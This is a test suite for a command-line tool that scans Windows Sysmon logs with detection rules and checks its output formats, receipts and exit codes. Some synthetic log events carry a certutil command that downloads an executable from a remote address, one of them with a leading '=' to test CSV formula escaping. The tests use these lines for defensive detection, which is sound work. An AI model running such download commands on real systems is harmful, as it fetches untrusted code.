import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, describe, expect, test } from 'vitest';
import { BIN, haetae, ROOT } from './haetae.ts';

const SAMPLES = join(ROOT, 'packages/haetae/content/samples');
const EVTX = join(SAMPLES, 'DESKTOP-HT01_Sysmon.evtx');
const CSV = join(SAMPLES, 'DESKTOP-HT02_Sysmon.csv');
const folder = mkdtempSync(join(tmpdir(), 'haetae-cli-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** An event as a JSON line in evtx_dump's shape. */
const eventLine = (id: number, data: Record<string, string>, time = '2026-01-02T03:04:05.1234567Z') =>
  `${JSON.stringify({
    Event: {
      System: {
        Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } },
        EventID: id,
        TimeCreated: { '#attributes': { SystemTime: time } },
        EventRecordID: 7,
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        Computer: 'PC',
      },
      EventData: data,
    },
  })}\n`;
const file = (name: string, content: string | Uint8Array): string => {
  const path = join(folder, name);
  writeFileSync(path, content);
  return path;
};
const findings = (jsonl: string) =>
  jsonl
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line));

describe('exit status', () => {
  const rows: readonly (readonly [string, readonly string[], number])[] = [
    ['help', ['--help'], 0],
    ['no command at all shows the help', [], 0],
    ['a scan', ['scan', SAMPLES], 0],
    ['a finding at --fail-on', ['scan', SAMPLES, '--fail-on', 'high'], 1],
    ['no finding at --fail-on', ['scan', CSV, '--min-level', 'critical', '--fail-on', 'critical'], 0],
    ['no path', ['scan'], 2],
    ['a path that is not there', ['scan', 'nowhere.evtx'], 2],
    ['an unknown command', ['scna'], 2],
    ['an unknown flag', ['scan', SAMPLES, '--min-levl', 'high'], 2],
    ['an unknown language', ['scan', SAMPLES, '--lang', 'fr'], 2],
    ['an unknown zone', ['scan', SAMPLES, '--timezone', 'Mars/Olympus'], 2],
    ['a file that is no log', ['scan', join(ROOT, 'LICENSE')], 3],
    ['JSON that holds no event', ['info', join(ROOT, 'package.json')], 3],
  ];
  test.each(rows)('%s', async (_what, args, code) => {
    expect((await haetae(args)).code).toBe(code);
  });

  test('logs beside unreadable files are a success with a receipt', async () => {
    const broken = file('broken.zip', Uint8Array.of(0x50, 0x4b, 3, 4, 1, 2, 3));
    const { code, stderr } = await haetae(['scan', broken, EVTX]);
    expect(code).toBe(0);
    expect(stderr).toContain('broken.zip: the archive is damaged');
  });
});

describe('a finding as a JSON line', () => {
  test('has the members in their order, UTC with seven digits, and the record of an EVTX file', async () => {
    const { stdout } = await haetae(['scan', EVTX, '--format', 'jsonl', '--timezone', 'KST']);
    const [first] = findings(stdout);
    expect(Object.keys(first).slice(0, 14)).toEqual([
      'time', 'computer', 'channel', 'provider', 'eventId', 'eventRecordId', 'record', 'file', 'detector', 'rule', 'level',
      'attack', 'why', 'fields',
    ]); // biome-ignore format: one list
    expect(first.time).toMatch(/^2026-03-17T\d\d:\d\d:\d\d\.\d{7}Z$/);
    expect(Object.keys(first.rule)).toEqual(['id', 'title', 'path']);
    expect(Object.keys(first.attack)).toEqual(['tactics', 'techniques']);
    expect(first.rule.path).toMatch(/^builtin\/.*\.yml$/);
  });

  test('has the physical line of a text file, and the path of an archive’s member', async () => {
    const log = `\n${eventLine(1, { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -split -f http://192.0.2.1/a.exe' })}`;
    const packed = file('log.jsonl.gz', gzipSync(log));
    const { stdout } = await haetae(['scan', packed, '--format', 'jsonl']);
    const [first] = findings(stdout);
    expect([first.line, first.time, first.record]).toEqual([2, '2026-01-02T03:04:05.1234567Z', undefined]);
    expect(first.file).toBe(packed);
    const zipped = findings((await haetae(['scan', join(SAMPLES, 'collector.zip'), '--format', 'jsonl'])).stdout);
    expect(zipped[0].file).toBe(`${join(SAMPLES, 'collector.zip')}/ForwardedEvents.evtx`);
  });

  test('comes in order of time, and neither the order of files nor the number of threads changes a byte', async () => {
    const files = readdirSync(SAMPLES)
      .filter((name) => !/\.(md|mjs)$/.test(name))
      .map((name) => join(SAMPLES, name));
    const plain = await haetae(['scan', ...files, '--format', 'jsonl', '--threads', '1']);
    const threaded = await haetae(['scan', ...files.reverse(), '--format', 'jsonl', '--threads', '2']);
    expect(threaded.stdout).toBe(plain.stdout);
    const times = findings(plain.stdout).map(({ time }) => time);
    expect(times).toEqual([...times].sort());
    expect(times.length).toBeGreaterThan(50);
  });

  test('carries decoded text that rules saw', async () => {
    const { stdout } = await haetae(['scan', EVTX, '--format', 'jsonl']);
    const decoded = findings(stdout).flatMap((finding) => finding.decoded ?? []);
    expect(decoded.map(({ text }) => text).join('\n')).toContain('Invoke-WebRequest');
  });
});

test('standard input is read like a file', async () => {
  const { stdout } = await haetae(['dump', '-'], { input: eventLine(5, { Image: 'C:\\가\\나.exe' }) });
  expect(JSON.parse(stdout)).toEqual({
    file: '-',
    line: 1,
    eventRecordId: 7,
    channel: 'Microsoft-Windows-Sysmon/Operational',
    provider: 'Microsoft-Windows-Sysmon',
    eventId: 5,
    time: '2026-01-02T03:04:05.1234567Z',
    computer: 'PC',
    data: { Image: 'C:\\가\\나.exe' },
  });
});

test('--from and --to are read in --timezone and include a whole last day', async () => {
  const day = (time: string) =>
    eventLine(1, { Image: 'C:\\x\\certutil.exe', CommandLine: 'certutil -urlcache -f http://192.0.2.1/a' }, time);
  const log = file(
    'days.jsonl',
    day('2026-01-01T14:59:59.0000000Z') +
      day('2026-01-01T15:00:00.0000000Z') +
      day('2026-01-02T14:59:59.9999999Z') +
      day('2026-01-02T15:00:00.0000000Z'),
  );
  const { stdout } = await haetae([
    'scan',
    log,
    '--format',
    'jsonl',
    '--timezone',
    'KST',
    '--from',
    '2026-01-02',
    '--to',
    '2026-01-02',
  ]);
  expect([...new Set(findings(stdout).map(({ line }) => line))]).toEqual([2, 3]);
});

test('a CSV sheet opens in a Korean Excel: BOM, zone in the head, no formula cells', async () => {
  const log = file(
    'formula.jsonl',
    eventLine(1, { Image: 'C:\\x\\certutil.exe', CommandLine: '=certutil -urlcache -f http://192.0.2.1/a' }),
  );
  const { stdout } = await haetae(['scan', log, '--format', 'csv', '--lang', 'ko', '--timezone', 'KST']);
  expect(stdout.startsWith('\ufeff시각 (Asia/Seoul +09:00),')).toBe(true);
  expect(stdout).toContain("'=certutil");
  expect(stdout).toContain('2026-01-02 12:04:05.123');
});

test('the receipt as JSON names every input with its SHA-256, the tool, the rules and the zone', async () => {
  const receipt = join(folder, 'receipt.json');
  await haetae(['scan', CSV, '--receipt', receipt, '--timezone', 'KST']);
  const json = JSON.parse(readFileSync(receipt, 'utf8'));
  const { version } = JSON.parse(readFileSync(join(ROOT, 'packages/haetae/package.json'), 'utf8'));
  expect(json.tool).toEqual({ name: 'haetae', version });
  expect(json.timeZone).toEqual({ name: 'Asia/Seoul', offset: '+09:00' });
  expect(json.rules.packs[0]).toMatchObject({ name: 'builtin', sha256: expect.stringMatching(/^[0-9a-f]{64}$/) });
  expect(json.rules.inForce).toBeGreaterThanOrEqual(40);
  expect(json.inputs[0]).toMatchObject({
    path: CSV,
    kind: 'log',
    sha256: createHash('sha256').update(readFileSync(CSV)).digest('hex'),
  });
  expect(json.inputs[0].notices.map(({ code }: { code: string }) => code)).toContain('time-offset');
});

test('when nothing is found, it says what was loaded, seen and possible', async () => {
  const { code, stdout, stderr } = await haetae(['scan', file('quiet.jsonl', eventLine(5, { Image: 'C:\\a.exe' }))]);
  expect([code, stdout]).toEqual([0, '']);
  expect(stderr).toContain('Why nothing was found');
  expect(stderr).toMatch(/\d+ rules loaded; 0 of them look at the channels of these logs\./);
  expect(stderr).toContain('No rule looks at: Microsoft-Windows-Sysmon/Operational');
  expect(stderr).toContain('No process creation is in these logs');
});

test('a rule that cannot be loaded is named with its place; the others are in force', async () => {
  const rules = join(folder, 'rules');
  mkdirSync(rules, { recursive: true });
  writeFileSync(
    join(rules, 'a.yml'),
    'title: Bad\nlogsource: {product: windows, category: process_creation}\ndetection:\n  s:\n    CommandLine|containz: x\n  condition: s\n',
  );
  writeFileSync(
    join(rules, 'b.yml'),
    'title: Good\nlevel: high\nlogsource: {product: windows, category: process_creation}\ndetection:\n  s:\n    CommandLine|contains: needle\n  condition: s\n',
  );
  const log = file('needle.jsonl', eventLine(1, { CommandLine: 'a NEEDLE b' }));
  const { stdout, stderr } = await haetae(['scan', log, '--no-builtin', '--rules', rules, '--format', 'jsonl']);
  expect(findings(stdout).map(({ rule }) => rule.title)).toEqual(['Good']);
  expect(stderr).toMatch(/a\.yml:5:\d+: .*contains/);
});

describe('output files', () => {
  test('appear whole under their name, and nothing else stays beside them', async () => {
    const target = join(folder, 'out');
    mkdirSync(target);
    await haetae(['dump', EVTX, '-o', join(target, 'all.jsonl')]);
    expect(readdirSync(target)).toEqual(['all.jsonl']);
    expect(readFileSync(join(target, 'all.jsonl'), 'utf8').split('\n').length).toBe(179);
  });

  test('are not made by a run that fails', async () => {
    const target = join(folder, 'none.jsonl');
    expect((await haetae(['scan', join(ROOT, 'LICENSE'), '-o', target])).code).toBe(3);
    expect(existsSync(target)).toBe(false);
  });
});

test('a dump as XML is read back as the same events', async () => {
  const xml = file('back.xml', (await haetae(['dump', EVTX, '--format', 'xml'])).stdout);
  const canonical = async (path: string) =>
    (await haetae(['dump', path, '--canonical'])).stdout.replaceAll(/"record":\d+,/g, '');
  expect(await canonical(xml)).toBe(await canonical(EVTX));
});

test('a copy of a log in a folder that is also given is read once', async () => {
  copyFileSync(EVTX, join(folder, 'same.evtx'));
  const { stderr } = await haetae(['info', join(folder, 'same.evtx'), join(folder, 'same.evtx')]);
  expect(stderr).toContain('read 1 logs, 178 events');
});

describe('language', () => {
  test.each([
    [{ LC_ALL: 'ko_KR.UTF-8' }, [], '확인서'],
    [{ LC_ALL: 'en_US.UTF-8' }, [], 'Receipt'],
    [{ LC_ALL: 'en_US.UTF-8' }, ['--lang', 'ko'], '확인서'],
  ] as const)('%j %j says %s', async (env, flags, word) => {
    expect((await haetae(['info', EVTX, ...flags], { env })).stderr).toContain(word);
  });
});

test('Ctrl-C stops a run that waits for input, with its own status and nothing written', async () => {
  const target = join(folder, 'interrupted.jsonl');
  const child = spawn(process.execPath, [BIN, 'dump', '-', '-o', target], { stdio: ['pipe', 'ignore', 'pipe'] });
  let stderr = '';
  child.stderr.on('data', (chunk) => {
    stderr += chunk;
  });
  // The output's folder appears once the run has begun.
  const begun = (): boolean => readdirSync(folder).some((name) => name.startsWith('.haetae-'));
  child.stdin.write(eventLine(1, {}).repeat(2000));
  while (!begun()) await new Promise((resolve) => setImmediate(resolve));
  child.kill('SIGINT');
  const code = await new Promise((resolve) => child.on('close', resolve));
  expect([code, readdirSync(folder).filter((name) => /^\.haetae-|^interrupted/.test(name))]).toEqual([130, []]);
  expect(stderr).toContain('Stopped.');
});
